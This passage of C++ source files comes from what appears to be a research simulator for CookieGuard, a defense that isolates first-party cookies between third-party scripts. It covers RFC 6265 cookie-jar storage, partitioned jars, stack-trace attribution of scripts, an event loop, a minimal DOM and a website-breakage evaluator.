    cookie.creation_index = existing->creation_index;
    *existing = cookie;
    change.type = CookieChange::Type::kOverwritten;
    change.current = cookie;
    return change;
  }

  if (lands_expired) {
    change.type = CookieChange::Type::kExpiredNoop;
    return change;
  }

  cookie.creation_index = next_index_++;
  cookies_.push_back(cookie);

  // Evict past the jar limit: expired first, then least recently accessed.
  if (cookies_.size() > kMaxCookies) {
    purge_expired(now);
    while (cookies_.size() > kMaxCookies) {
      auto victim = std::min_element(
          cookies_.begin(), cookies_.end(),
          [](const Cookie& a, const Cookie& b) {
            if (a.last_access != b.last_access) {
              return a.last_access < b.last_access;
            }
            return a.creation_index < b.creation_index;
          });
      cookies_.erase(victim);
    }
  }

  change.type = CookieChange::Type::kCreated;
  change.current = cookie;
  return change;
}

CookieChange CookieJar::set_from_string(const net::Url& document_url,
                                        std::string_view cookie_line,
                                        TimeMillis now) {
  const auto parsed = net::parse_set_cookie(cookie_line);
  if (!parsed) {
    CookieChange change;
    change.reject_reason = "unparseable cookie string";
    return change;
  }
  return set(document_url, *parsed, now, JarApi::kScript);
}

namespace {

// RFC 6265 §5.4 steps 1-2: does `c` match a request to `url` over `api`?
bool retrieval_match(const Cookie& c, const net::Url& url, TimeMillis now,
                     JarApi api) {
  if (c.expired(now)) return false;
  if (c.http_only && api == JarApi::kScript) return false;
  if (c.secure && !url.is_secure()) return false;
  if (c.host_only) {
    if (url.host() != c.domain) return false;
  } else if (!net::domain_matches(url.host(), c.domain)) {
    return false;
  }
  return path_matches(url.path(), c.path);
}

// §5.4 sort: longer paths first, then earlier creation.
void sort_for_retrieval(std::vector<Cookie>& out) {
  std::sort(out.begin(), out.end(), [](const Cookie& a, const Cookie& b) {
    if (a.path.size() != b.path.size()) return a.path.size() > b.path.size();
    if (a.creation_time != b.creation_time) {
      return a.creation_time < b.creation_time;
    }
    return a.creation_index < b.creation_index;
  });
}

}  // namespace

std::vector<Cookie> CookieJar::cookies_for_url(const net::Url& url,
                                               TimeMillis now, JarApi api) {
  std::vector<Cookie> out;
  for (auto& c : cookies_) {
    if (!retrieval_match(c, url, now, api)) continue;
    c.last_access = now;
    out.push_back(c);
  }
  sort_for_retrieval(out);
  return out;
}

std::vector<Cookie> CookieJar::peek_for_url(const net::Url& url,
                                            TimeMillis now, JarApi api) const {
  std::vector<Cookie> out;
  for (const auto& c : cookies_) {
    if (retrieval_match(c, url, now, api)) out.push_back(c);
  }
  sort_for_retrieval(out);
  return out;
}

std::string CookieJar::document_cookie_string(const net::Url& url,
                                              TimeMillis now) {
  std::string out;
  for (const auto& c : cookies_for_url(url, now, JarApi::kScript)) {
    if (!out.empty()) out += "; ";
    out += c.pair();
  }
  return out;
}

std::optional<Cookie> CookieJar::find(std::string_view name,
                                      std::string_view domain,
                                      std::string_view path) const {
  for (const auto& c : cookies_) {
    if (c.name == name && c.domain == domain && c.path == path) return c;
  }
  return std::nullopt;
}

bool CookieJar::remove(std::string_view name, std::string_view domain,
                       std::string_view path) {
  const auto count = std::erase_if(cookies_, [&](const Cookie& c) {
    return c.name == name && c.domain == domain && c.path == path;
  });
  return count > 0;
}

std::size_t CookieJar::purge_expired(TimeMillis now) {
  return std::erase_if(cookies_,
                       [&](const Cookie& c) { return c.expired(now); });
}

}  // namespace cg::cookies
