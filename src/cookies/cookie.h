// Canonical cookie representation (RFC 6265 storage model item).
#pragma once

#include <cstdint>
#include <optional>
#include <string>

#include "net/clock.h"
#include "net/set_cookie.h"

namespace cg::cookies {

/// How a cookie entered the jar. The paper distinguishes HTTP cookies from
/// script cookies ("document.cookie" vs "cookieStore", §2.3) and its
/// measurement pipeline tracks which API created each cookie.
enum class CookieSource {
  kHttpHeader,
  kDocumentCookie,
  kCookieStore,
};

std::string_view to_string(CookieSource s);

struct Cookie {
  std::string name;
  std::string value;
  /// Registrable-ish domain the cookie is scoped to (no leading dot).
  std::string domain;
  std::string path = "/";
  /// True when no Domain attribute was given: cookie only matches the exact
  /// host that set it.
  bool host_only = true;
  bool secure = false;
  bool http_only = false;
  /// CHIPS `Partitioned` attribute as received. Which jar partition the
  /// cookie actually landed in is the policy layer's decision; this flag
  /// records the site's intent for measurement and visibility filtering.
  bool partitioned = false;
  net::SameSite same_site = net::SameSite::kUnspecified;
  /// Absolute expiry; nullopt = session cookie.
  std::optional<TimeMillis> expires;
  TimeMillis creation_time = 0;
  TimeMillis last_access = 0;
  CookieSource source = CookieSource::kHttpHeader;
  /// Monotonic per-jar counter breaking creation-time ties in sort order.
  std::uint64_t creation_index = 0;

  bool persistent() const { return expires.has_value(); }
  bool expired(TimeMillis now) const { return expires && *expires <= now; }

  /// Identity per RFC 6265: (name, domain, path).
  bool same_identity(const Cookie& other) const {
    return name == other.name && domain == other.domain && path == other.path;
  }

  /// "name=value" fragment used by document.cookie serialisation.
  std::string pair() const { return name + "=" + value; }
};

}  // namespace cg::cookies
