// The browser's first-party cookie jar: RFC 6265 storage model.
//
// This is the resource the whole paper is about. Scripts in the main frame
// share one jar per top-level site; CookieGuard does NOT change this jar —
// it interposes on the API boundary above it and filters what each script
// origin may see (paper §6).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "cookies/cookie.h"
#include "net/set_cookie.h"
#include "net/url.h"

namespace cg::cookies {

/// Which API surface performs a jar operation. Script APIs cannot create
/// HttpOnly cookies nor read/overwrite existing ones (RFC 6265 §8.6).
enum class JarApi { kHttp, kScript };

/// Outcome of a store attempt, rich enough for the measurement extension to
/// classify the event (create vs overwrite vs delete) and diff attributes.
struct CookieChange {
  enum class Type {
    kCreated,
    kOverwritten,
    kDeleted,     // stored with expiry <= now while a live cookie existed
    kExpiredNoop,  // expiry <= now and no matching live cookie
    kRejected,    // failed a storage-model rule
  };
  Type type = Type::kRejected;
  /// State before the operation (set for kOverwritten / kDeleted).
  std::optional<Cookie> previous;
  /// State after the operation (set for kCreated / kOverwritten).
  std::optional<Cookie> current;
  /// Human-readable reason for kRejected.
  std::string reject_reason;
};

class CookieJar {
 public:
  /// RFC 6265 §6.1 minimum capabilities, enforced like Chromium: oversized
  /// name+value pairs are rejected; beyond the per-jar cookie limit the
  /// least-recently-accessed cookies are evicted (expired ones first).
  static constexpr std::size_t kMaxPairBytes = 4096;
  static constexpr std::size_t kMaxCookies = 180;

  /// Applies the RFC 6265 §5.3 storage algorithm for a cookie received from
  /// `source_url` (the response URL for HTTP, the document URL for scripts).
  /// `source` overrides the recorded CookieSource (e.g. kCookieStore for
  /// cookieStore.set, which is also a script API).
  CookieChange set(const net::Url& source_url,
                   const net::ParsedSetCookie& parsed, TimeMillis now,
                   JarApi api,
                   std::optional<CookieSource> source = std::nullopt);

  /// Convenience for script writes: parses `cookie_line` exactly like a
  /// Set-Cookie value (document.cookie assignment grammar is the same).
  CookieChange set_from_string(const net::Url& document_url,
                               std::string_view cookie_line, TimeMillis now);

  /// Cookies matching `url` per RFC 6265 §5.4 (domain-match, path-match,
  /// secure channel check), HttpOnly filtered out for JarApi::kScript.
  /// Sorted: longer paths first, then earlier creation. Updates last_access.
  std::vector<Cookie> cookies_for_url(const net::Url& url, TimeMillis now,
                                      JarApi api);

  /// Read-only variant of cookies_for_url: identical matching and sort
  /// order, but does NOT update last_access. Measurement code must use this
  /// — an observer read that refreshed last_access would perturb the
  /// LRU eviction order it is trying to observe.
  std::vector<Cookie> peek_for_url(const net::Url& url, TimeMillis now,
                                   JarApi api) const;

  /// The exact string document.cookie returns: "a=1; b=2".
  std::string document_cookie_string(const net::Url& url, TimeMillis now);

  /// Looks up a live cookie by identity.
  std::optional<Cookie> find(std::string_view name, std::string_view domain,
                             std::string_view path) const;

  /// Removes a cookie by identity; true if one was removed.
  bool remove(std::string_view name, std::string_view domain,
              std::string_view path);

  /// Drops expired cookies; returns how many were evicted.
  std::size_t purge_expired(TimeMillis now);

  std::size_t size() const { return cookies_.size(); }
  const std::vector<Cookie>& all() const { return cookies_; }
  void clear() { cookies_.clear(); }

 private:
  std::vector<Cookie> cookies_;
  std::uint64_t next_index_ = 0;
};

}  // namespace cg::cookies
