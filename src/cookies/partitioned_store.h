// Partition-keyed cookie storage: the browser's cookie database as a map
// from a deterministic partition key to an ordinary RFC 6265 jar.
//
// Storage carries no policy. *Which* partition an operation lands in is
// decided entirely above this layer (src/policy/); each partition is a full
// CookieJar with its own limits and LRU eviction, exactly as before the
// storage/policy split. The default partition (empty key) is the classic
// single first-party jar — Browser::jar() returns it, so code written
// against the one-jar model keeps working unchanged.
#pragma once

#include <cstddef>
#include <map>
#include <string>
#include <string_view>

#include "cookies/cookie_jar.h"

namespace cg::cookies {

/// A partition key. The policy engines build keys like "" (unpartitioned),
/// "fpi:<firstPartyDomain>", or "chips:<top-level-site>"; the store treats
/// them as opaque. Ordered (std::map) so iteration is deterministic.
using PartitionKey = std::string;

/// The default partition: the pre-policy single first-party jar.
inline constexpr std::string_view kDefaultPartition = "";

class PartitionedJarStore {
 public:
  /// The jar for `key`, created empty on first use.
  CookieJar& jar(const PartitionKey& key) { return jars_[key]; }

  /// The jar for `key` if it exists, else null — read paths use this to
  /// avoid materialising empty partitions (which would make reads mutate
  /// the store's shape).
  const CookieJar* find(const PartitionKey& key) const {
    const auto it = jars_.find(key);
    return it == jars_.end() ? nullptr : &it->second;
  }
  CookieJar* find(const PartitionKey& key) {
    const auto it = jars_.find(key);
    return it == jars_.end() ? nullptr : &it->second;
  }

  /// The classic single jar (empty partition key).
  CookieJar& default_jar() { return jar(PartitionKey(kDefaultPartition)); }

  /// Number of materialised partitions (including empty-but-touched ones).
  std::size_t partition_count() const { return jars_.size(); }

  /// Total live+expired cookies across all partitions.
  std::size_t total_cookies() const {
    std::size_t n = 0;
    for (const auto& [key, jar] : jars_) n += jar.size();
    return n;
  }

  /// Deterministic iteration over materialised partitions, key order.
  const std::map<PartitionKey, CookieJar>& partitions() const {
    return jars_;
  }

  void clear() { jars_.clear(); }

 private:
  std::map<PartitionKey, CookieJar> jars_;
};

}  // namespace cg::cookies
