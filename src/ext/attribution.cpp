#include "ext/attribution.h"

#include "net/psl.h"
#include "net/url.h"

namespace cg::ext {

Attribution attribute_stack(const webplat::StackTrace& stack,
                            AttributionMode mode) {
  Attribution out;
  std::optional<std::string> url;
  switch (mode) {
    case AttributionMode::kLastExternal:
      url = stack.last_external_script_url();
      break;
    case AttributionMode::kTopFrameOnly: {
      // Ignore async-recovered frames: only a genuine top frame counts.
      const auto& frames = stack.frames();
      if (!frames.empty() && !frames.back().async &&
          !frames.back().script_url.empty()) {
        url = frames.back().script_url;
      }
      break;
    }
  }
  if (!url) {
    out.unknown = true;
    return out;
  }
  out.script_url = *url;
  if (const auto parsed = net::Url::parse(*url)) {
    out.domain = parsed->site();
  } else {
    out.unknown = true;
  }
  return out;
}

}  // namespace cg::ext
