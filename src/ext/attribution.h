// Script-origin attribution from JS stack traces.
//
// Shared by the measurement extension (§4.1 "the calling script's URL,
// derived from the stack trace") and CookieGuard (§6.2 "inferred by
// analyzing the JavaScript stack trace to locate the last external script
// URL"). The attribution mode is a design knob ablated in bench_ablation.
#pragma once

#include <string>

#include "webplat/stack_trace.h"

namespace cg::ext {

enum class AttributionMode {
  /// The paper's approach: deepest (most recent) frame with an external URL,
  /// falling back through async frames when the browser provides them.
  kLastExternal,
  /// Naive alternative: only the topmost frame, no async recovery.
  kTopFrameOnly,
};

struct Attribution {
  /// Attributed script URL; empty when no external frame was found.
  std::string script_url;
  /// eTLD+1 of script_url; empty for inline/unknown.
  std::string domain;
  /// True when attribution failed (inline script or lost async stack).
  bool unknown = false;
};

/// Attributes an action to a script origin from its capture-time stack.
Attribution attribute_stack(const webplat::StackTrace& stack,
                            AttributionMode mode = AttributionMode::kLastExternal);

}  // namespace cg::ext
