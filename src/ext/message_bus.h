// Topic-based message channel between an extension's content-script side and
// its background service.
//
// The paper's CookieGuard is split into cookieGuard.js / contentScript.js /
// background.js with postMessage relaying between them (§6.2, Figure 4).
// The simulator keeps that separation: the page-side hooks never touch the
// metadata store directly — they go through a MessageBus, whose round trips
// are counted (they are the main source of the runtime overhead in Table 4).
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <string>
#include <string_view>

namespace cg::ext {

class MessageBus {
 public:
  /// Request/response handler for a topic (background side).
  using Handler = std::function<std::string(const std::string& payload)>;

  void register_handler(std::string_view topic, Handler handler) {
    handlers_.insert_or_assign(std::string(topic), std::move(handler));
  }

  /// Synchronous RPC from the content-script side to the background.
  /// Returns the handler's response ("" when no handler is registered).
  std::string request(std::string_view topic, const std::string& payload) {
    ++round_trips_;
    const auto it = handlers_.find(std::string(topic));
    return it == handlers_.end() ? std::string{} : it->second(payload);
  }

  /// Fire-and-forget notification (a postMessage without a reply).
  void post(std::string_view topic, const std::string& payload) {
    ++posts_;
    const auto it = handlers_.find(std::string(topic));
    if (it != handlers_.end()) it->second(payload);
  }

  std::uint64_t round_trips() const { return round_trips_; }
  std::uint64_t posts() const { return posts_; }
  void reset_counters() { round_trips_ = posts_ = 0; }

 private:
  std::map<std::string, Handler, std::less<>> handlers_;
  std::uint64_t round_trips_ = 0;
  std::uint64_t posts_ = 0;
};

}  // namespace cg::ext
