#include "webplat/event_loop.h"

#include <utility>

#include "obs/trace.h"

namespace cg::webplat {

void EventLoop::post_task(Task task, TimeMillis delay_ms,
                          StackTrace scheduling_stack) {
  macro_.push(PendingTask{clock_->now() + (delay_ms > 0 ? delay_ms : 0),
                          next_seq_++, std::move(task),
                          std::move(scheduling_stack)});
}

void EventLoop::post_microtask(Task task, StackTrace scheduling_stack) {
  micro_.push(MicroTask{std::move(task), std::move(scheduling_stack)});
}

void EventLoop::drain_microtasks() {
  while (!micro_.empty()) {
    MicroTask mt = std::move(micro_.front());
    micro_.pop();
    current_scheduling_stack_ = std::move(mt.scheduling_stack);
    mt.task();
    obs::metric_add("eventloop.microtasks");
  }
  current_scheduling_stack_ = {};
}

bool EventLoop::run_one() {
  drain_microtasks();
  if (macro_.empty()) return false;
  // priority_queue::top is const; the task is moved out via const_cast-free
  // copy of the handle then popped.
  PendingTask next = macro_.top();
  macro_.pop();
  clock_->advance_to(next.due);
  current_scheduling_stack_ = std::move(next.scheduling_stack);
  next.task();
  current_scheduling_stack_ = {};
  drain_microtasks();
  obs::metric_add("eventloop.tasks");
  // The span covers the macrotask plus the microtasks it flushed — all the
  // virtual time this turn consumed.
  obs::span(obs::Detail::kFull, "eventloop", "task", next.due,
            clock_->now() - next.due);
  return true;
}

std::size_t EventLoop::run_until_idle() {
  std::size_t count = 0;
  while (run_one()) ++count;
  return count;
}

}  // namespace cg::webplat
