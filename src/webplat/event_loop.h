// Single-threaded event loop: macrotasks with due times, microtasks, and the
// page-lifecycle checkpoints the performance evaluation measures.
//
// Cookie accesses happening inside setTimeout callbacks or promise reactions
// are the async-attribution edge cases of paper §8; the loop carries each
// task's scheduling stack so the browser can (optionally) reconstruct async
// stack traces.
#pragma once

#include <cstdint>
#include <functional>
#include <queue>
#include <vector>

#include "net/clock.h"
#include "webplat/stack_trace.h"

namespace cg::webplat {

class EventLoop {
 public:
  using Task = std::function<void()>;

  explicit EventLoop(SimClock* clock) : clock_(clock) {}

  /// Schedules a macrotask to run `delay_ms` from now. `scheduling_stack` is
  /// the JS stack at scheduling time (what async stack traces would recover).
  void post_task(Task task, TimeMillis delay_ms = 0,
                 StackTrace scheduling_stack = {});

  /// Schedules a microtask (runs before the next macrotask, same turn).
  void post_microtask(Task task, StackTrace scheduling_stack = {});

  /// Runs tasks until both queues are empty, advancing the clock to each
  /// macrotask's due time. Returns the number of tasks executed.
  std::size_t run_until_idle();

  /// Runs at most one macrotask (draining microtasks first and after).
  /// Returns false when nothing was runnable.
  bool run_one();

  bool idle() const { return macro_.empty() && micro_.empty(); }
  std::size_t pending() const { return macro_.size() + micro_.size(); }

  /// Stack that scheduled the currently running task ({} outside tasks).
  const StackTrace& current_task_scheduling_stack() const {
    return current_scheduling_stack_;
  }

  SimClock& clock() { return *clock_; }

 private:
  struct PendingTask {
    TimeMillis due;
    std::uint64_t seq;  // FIFO tie-break
    Task task;
    StackTrace scheduling_stack;
    bool operator>(const PendingTask& other) const {
      if (due != other.due) return due > other.due;
      return seq > other.seq;
    }
  };

  void drain_microtasks();

  SimClock* clock_;
  std::priority_queue<PendingTask, std::vector<PendingTask>,
                      std::greater<PendingTask>>
      macro_;
  struct MicroTask {
    Task task;
    StackTrace scheduling_stack;
  };
  std::queue<MicroTask> micro_;
  std::uint64_t next_seq_ = 0;
  StackTrace current_scheduling_stack_;
};

}  // namespace cg::webplat
