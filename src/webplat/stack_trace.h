// JavaScript stack-trace model.
//
// Both the measurement extension and CookieGuard attribute cookie accesses
// and network requests to "the last external script URL" found on the
// capture-time stack (paper §4.1, §6.2). The paper's §8 notes this breaks in
// async scenarios (setTimeout, promise resolutions) where the scheduling
// script no longer appears on the stack — the simulator reproduces that gap
// and lets it be toggled (async stack traces on/off).
#pragma once

#include <optional>
#include <string>
#include <vector>

namespace cg::webplat {

struct StackFrame {
  /// URL of the external script this frame executes in; empty for inline
  /// scripts and browser-internal frames.
  std::string script_url;
  std::string function_name;
  /// True when this frame was recovered across an async boundary (only
  /// present when async stack traces are enabled).
  bool async = false;
};

class StackTrace {
 public:
  StackTrace() = default;
  explicit StackTrace(std::vector<StackFrame> frames)
      : frames_(std::move(frames)) {}

  void push(StackFrame frame) { frames_.push_back(std::move(frame)); }
  void pop() {
    if (!frames_.empty()) frames_.pop_back();
  }

  bool empty() const { return frames_.empty(); }
  std::size_t depth() const { return frames_.size(); }
  const std::vector<StackFrame>& frames() const { return frames_; }

  /// The most recently pushed frame with an external URL — the frame the
  /// paper's attribution uses ("analyzing the JavaScript stack trace to
  /// locate the last external script URL", §6.2). nullopt when the stack is
  /// empty or purely inline.
  std::optional<std::string> last_external_script_url() const {
    for (auto it = frames_.rbegin(); it != frames_.rend(); ++it) {
      if (!it->script_url.empty()) return it->script_url;
    }
    return std::nullopt;
  }

  /// Naive attribution alternative: the topmost frame's URL regardless of
  /// whether it's external. Used by ablation benchmarks.
  std::optional<std::string> top_frame_url() const {
    if (frames_.empty()) return std::nullopt;
    if (frames_.back().script_url.empty()) return std::nullopt;
    return frames_.back().script_url;
  }

  /// Appends `older` below the current frames, marking its frames async —
  /// how DevTools-style async stack traces stitch across task boundaries.
  void prepend_async(const StackTrace& older) {
    std::vector<StackFrame> merged = older.frames_;
    for (auto& f : merged) f.async = true;
    merged.insert(merged.end(), frames_.begin(), frames_.end());
    frames_ = std::move(merged);
  }

 private:
  std::vector<StackFrame> frames_;
};

}  // namespace cg::webplat
