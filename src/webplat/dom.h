// Minimal DOM: enough structure for script inclusion, link clicking, and the
// cross-domain DOM-modification pilot study (paper §8).
//
// Every node remembers which script domain created it, and every mutation is
// reported to observers with (modifier domain, target's creator domain) so
// the analysis can flag cross-domain DOM modifications exactly as the paper
// does for cookies.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "net/url.h"

namespace cg::webplat {

class Document;

class Node {
 public:
  Node(std::string tag, std::string creator_domain)
      : tag_(std::move(tag)), creator_domain_(std::move(creator_domain)) {}

  const std::string& tag() const { return tag_; }
  /// eTLD+1 of the script that created this node ("" = parser/first-party
  /// markup).
  const std::string& creator_domain() const { return creator_domain_; }

  const std::string& text() const { return text_; }
  std::string attribute(std::string_view name) const;
  bool has_attribute(std::string_view name) const;

  const std::vector<Node*>& children() const { return children_; }
  Node* parent() const { return parent_; }

 private:
  friend class Document;

  std::string tag_;
  std::string creator_domain_;
  std::string text_;
  std::map<std::string, std::string, std::less<>> attributes_;
  std::vector<Node*> children_;
  Node* parent_ = nullptr;
};

/// A DOM mutation event, attributed like cookie accesses: who changed what.
struct DomMutation {
  enum class Kind { kInsert, kRemove, kSetAttribute, kSetText, kSetStyle };
  Kind kind;
  std::string modifier_domain;        // eTLD+1 of the acting script
  std::string target_creator_domain;  // eTLD+1 of the node's creator
  std::string detail;                 // tag or attribute name
};

class Document {
 public:
  explicit Document(net::Url url);

  // Non-copyable: nodes hold pointers into the arena.
  Document(const Document&) = delete;
  Document& operator=(const Document&) = delete;

  const net::Url& url() const { return url_; }
  Node& body() { return *body_; }

  /// All mutating operations take the acting script's domain so mutations
  /// can be attributed.
  Node& create_element(std::string_view tag, std::string_view creator_domain);
  void append_child(Node& parent, Node& child, std::string_view actor_domain);
  void remove_node(Node& node, std::string_view actor_domain);
  void set_attribute(Node& node, std::string_view name, std::string_view value,
                     std::string_view actor_domain);
  void set_text(Node& node, std::string_view text,
                std::string_view actor_domain);
  void set_style(Node& node, std::string_view css,
                 std::string_view actor_domain);

  /// Depth-first collection of elements with tag `tag`.
  std::vector<Node*> elements_by_tag(std::string_view tag);

  using MutationObserver = std::function<void(const DomMutation&)>;
  void add_mutation_observer(MutationObserver observer) {
    observers_.push_back(std::move(observer));
  }

  std::size_t node_count() const { return arena_.size(); }

 private:
  void notify(DomMutation::Kind kind, const Node& target,
              std::string_view actor_domain, std::string_view detail);

  net::Url url_;
  std::vector<std::unique_ptr<Node>> arena_;
  Node* body_;
  std::vector<MutationObserver> observers_;
};

}  // namespace cg::webplat
