#include "webplat/dom.h"

#include <algorithm>

namespace cg::webplat {

std::string Node::attribute(std::string_view name) const {
  const auto it = attributes_.find(name);
  return it == attributes_.end() ? std::string{} : it->second;
}

bool Node::has_attribute(std::string_view name) const {
  return attributes_.find(name) != attributes_.end();
}

Document::Document(net::Url url) : url_(std::move(url)) {
  arena_.push_back(std::make_unique<Node>("body", ""));
  body_ = arena_.back().get();
}

Node& Document::create_element(std::string_view tag,
                               std::string_view creator_domain) {
  arena_.push_back(
      std::make_unique<Node>(std::string(tag), std::string(creator_domain)));
  return *arena_.back();
}

void Document::append_child(Node& parent, Node& child,
                            std::string_view actor_domain) {
  child.parent_ = &parent;
  parent.children_.push_back(&child);
  notify(DomMutation::Kind::kInsert, child, actor_domain, child.tag());
}

void Document::remove_node(Node& node, std::string_view actor_domain) {
  if (node.parent_ != nullptr) {
    auto& siblings = node.parent_->children_;
    siblings.erase(std::remove(siblings.begin(), siblings.end(), &node),
                   siblings.end());
    node.parent_ = nullptr;
  }
  notify(DomMutation::Kind::kRemove, node, actor_domain, node.tag());
}

void Document::set_attribute(Node& node, std::string_view name,
                             std::string_view value,
                             std::string_view actor_domain) {
  node.attributes_[std::string(name)] = std::string(value);
  notify(DomMutation::Kind::kSetAttribute, node, actor_domain, name);
}

void Document::set_text(Node& node, std::string_view text,
                        std::string_view actor_domain) {
  node.text_ = std::string(text);
  notify(DomMutation::Kind::kSetText, node, actor_domain, node.tag());
}

void Document::set_style(Node& node, std::string_view css,
                         std::string_view actor_domain) {
  node.attributes_["style"] = std::string(css);
  notify(DomMutation::Kind::kSetStyle, node, actor_domain, "style");
}

std::vector<Node*> Document::elements_by_tag(std::string_view tag) {
  std::vector<Node*> out;
  for (const auto& node : arena_) {
    if (node->tag() == tag) out.push_back(node.get());
  }
  return out;
}

void Document::notify(DomMutation::Kind kind, const Node& target,
                      std::string_view actor_domain, std::string_view detail) {
  if (observers_.empty()) return;
  const DomMutation mutation{kind, std::string(actor_domain),
                             target.creator_domain(), std::string(detail)};
  for (const auto& observer : observers_) observer(mutation);
}

}  // namespace cg::webplat
