// Frame tree: a main frame plus (possibly cross-origin) subframes.
//
// SOP boundaries in the paper's threat model live here: a script in a
// cross-origin iframe cannot reach the main frame's document or cookie jar,
// whereas any script *in the main frame* — whatever its source — can
// (paper §3, Figure 1).
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "net/url.h"
#include "webplat/dom.h"

namespace cg::webplat {

class Frame {
 public:
  Frame(net::Url url, Frame* parent)
      : url_(url), parent_(parent), document_(std::move(url)) {}

  Frame(const Frame&) = delete;
  Frame& operator=(const Frame&) = delete;

  const net::Url& url() const { return url_; }
  Document& document() { return document_; }
  const Document& document() const { return document_; }

  bool is_main_frame() const { return parent_ == nullptr; }
  Frame* parent() const { return parent_; }
  const std::vector<std::unique_ptr<Frame>>& children() const {
    return children_;
  }

  Frame& create_subframe(const net::Url& url) {
    children_.push_back(std::make_unique<Frame>(url, this));
    return *children_.back();
  }

  /// SOP check: may a script running in this frame access `other`'s
  /// document/cookies? True only for same-origin frames (§2.1).
  bool same_origin(const Frame& other) const {
    return url_.origin() == other.url_.origin();
  }

 private:
  net::Url url_;
  Frame* parent_;
  Document document_;
  std::vector<std::unique_ptr<Frame>> children_;
};

/// Page-lifecycle timing checkpoints, in simulated milliseconds from
/// navigation start — the three metrics of the paper's Table 4.
struct PageTimings {
  TimeMillis dom_interactive = 0;
  TimeMillis dom_content_loaded = 0;
  TimeMillis load_event = 0;
};

}  // namespace cg::webplat
