// Website-breakage evaluation (paper §7.2, Table 3).
//
// The paper's manual assessment of 100 sites is replaced by deterministic
// functionality probes that *execute* the dependency the human evaluators
// checked: logging in via SSO and staying logged in across a reload, ad
// slots rendering from targeting cookies, and chat widgets served from a
// same-entity CDN. Each probe drives the real page APIs through the real
// CookieGuard, so breakage emerges from enforcement, not from hand-coded
// outcomes.
#pragma once

#include <array>
#include <optional>
#include <string>
#include <vector>

#include "cookieguard/cookieguard.h"
#include "corpus/corpus.h"
#include "policy/partition_policy.h"

namespace cg::breakage {

enum class Severity { kNone, kMinor, kMajor };

enum class Aspect { kNavigation = 0, kSso = 1, kAppearance = 2,
                    kFunctionality = 3 };

struct SiteBreakage {
  std::array<Severity, 4> by_aspect{Severity::kNone, Severity::kNone,
                                    Severity::kNone, Severity::kNone};
  Severity& operator[](Aspect a) { return by_aspect[static_cast<int>(a)]; }
  Severity operator[](Aspect a) const {
    return by_aspect[static_cast<int>(a)];
  }
  bool any() const {
    for (const auto s : by_aspect) {
      if (s != Severity::kNone) return true;
    }
    return false;
  }
};

/// CookieGuard deployment variants evaluated in §7.2.
enum class GuardMode {
  kOff,                  // plain browser
  kStrict,               // default CookieGuard policy
  kEntityGrouping,       // + DuckDuckGo-entity whitelist
  kGroupingPlusPolicies,  // + per-site domain policies for SSO providers
};

const char* to_string(GuardMode mode);

struct Summary {
  int sites = 0;
  std::array<int, 4> minor{};
  std::array<int, 4> major{};
  /// Sites with at least one minor/major breakage anywhere.
  int sites_minor = 0;
  int sites_major = 0;
};

class BreakageEvaluator {
 public:
  explicit BreakageEvaluator(const corpus::Corpus& corpus)
      : corpus_(corpus) {}

  /// Probes one site under the given deployment mode and partitioning
  /// policy (the bake-off's second axis: the same functionality probes run
  /// under FPI or CHIPS jars instead of / alongside the extension).
  SiteBreakage evaluate_site(
      int index, GuardMode mode,
      policy::PolicyKind policy = policy::PolicyKind::kNone) const;

  /// Probes a sample of sites and aggregates Table-3-style counts.
  /// Breakage is measured *relative to the no-defense baseline* (plain
  /// browser, single jar), as the paper's evaluators compared each site
  /// with and without the extension: a feature that is already broken
  /// without any defense (e.g. a consent manager deleted the widget's
  /// cookie) does not count against the deployment under test.
  Summary summarize(
      const std::vector<int>& site_indices, GuardMode mode,
      policy::PolicyKind policy = policy::PolicyKind::kNone) const;

  /// Random sample of `n` site indices from the top `top_k` (paper: 100
  /// sites from the Tranco top 10k).
  std::vector<int> sample_sites(int n, int top_k,
                                std::uint64_t seed = 0x5A3C) const;

 private:
  const corpus::Corpus& corpus_;
};

}  // namespace cg::breakage
