#include "breakage/breakage.h"

#include <algorithm>
#include <set>

#include "browser/page.h"
#include "corpus/ecosystem.h"
#include "net/psl.h"
#include "script/interpreter.h"
#include "script/rng.h"

namespace cg::breakage {
namespace {

using script::ExecContext;

const char* kSsoSessionCookie = "SSO_session";

ExecContext context_for(const corpus::Corpus& corpus, const std::string& id,
                        const std::string& site_host) {
  ExecContext ctx;
  ctx.script_id = id;
  ctx.script_url = corpus::resolve_script_url(corpus.catalog(), id, site_host);
  if (!ctx.script_url.empty()) {
    ctx.script_domain = net::etld_plus_one(
        net::Url::must_parse(ctx.script_url).host());
  }
  ctx.category = script::Category::kSso;
  return ctx;
}

// Reads document.cookie as `ctx` and reports whether `cookie_name` is
// visible.
bool can_see_cookie(browser::Page& page, const ExecContext& ctx,
                    const std::string& cookie_name) {
  bool visible = false;
  page.run_as(ctx, [&](script::PageServices& services) {
    const std::string jar = services.document_cookie_read(ctx);
    for (const auto& cookie : script::parse_cookie_string(jar)) {
      if (cookie.name == cookie_name) {
        visible = true;
        return;
      }
    }
  });
  return visible;
}

cookieguard::CookieGuardConfig config_for(GuardMode mode,
                                          const corpus::SiteBlueprint& bp,
                                          const corpus::Corpus& corpus) {
  cookieguard::CookieGuardConfig config;
  config.entity_grouping = mode == GuardMode::kEntityGrouping ||
                           mode == GuardMode::kGroupingPlusPolicies;
  if (mode == GuardMode::kGroupingPlusPolicies && bp.has_sso) {
    // The user (or a curated policy list) grants the site's identity
    // providers full jar access on this site.
    auto& allow = config.per_site_allowlist[bp.site];
    for (const auto* id : {&bp.sso_provider_a, &bp.sso_provider_b}) {
      if (id->empty()) continue;
      const auto ctx = context_for(corpus, *id, bp.host);
      if (!ctx.script_domain.empty()) allow.insert(ctx.script_domain);
    }
  }
  return config;
}

}  // namespace

const char* to_string(GuardMode mode) {
  switch (mode) {
    case GuardMode::kOff:
      return "no extension";
    case GuardMode::kStrict:
      return "CookieGuard (strict)";
    case GuardMode::kEntityGrouping:
      return "CookieGuard + entity grouping";
    case GuardMode::kGroupingPlusPolicies:
      return "CookieGuard + grouping + site policies";
  }
  return "?";
}

SiteBreakage BreakageEvaluator::evaluate_site(
    int index, GuardMode mode, policy::PolicyKind policy) const {
  const auto& bp = corpus_.site(index);
  const auto& params = corpus_.params();

  browser::Browser browser(
      {}, params.seed ^ (0xB12EACULL + static_cast<std::uint64_t>(bp.rank)));
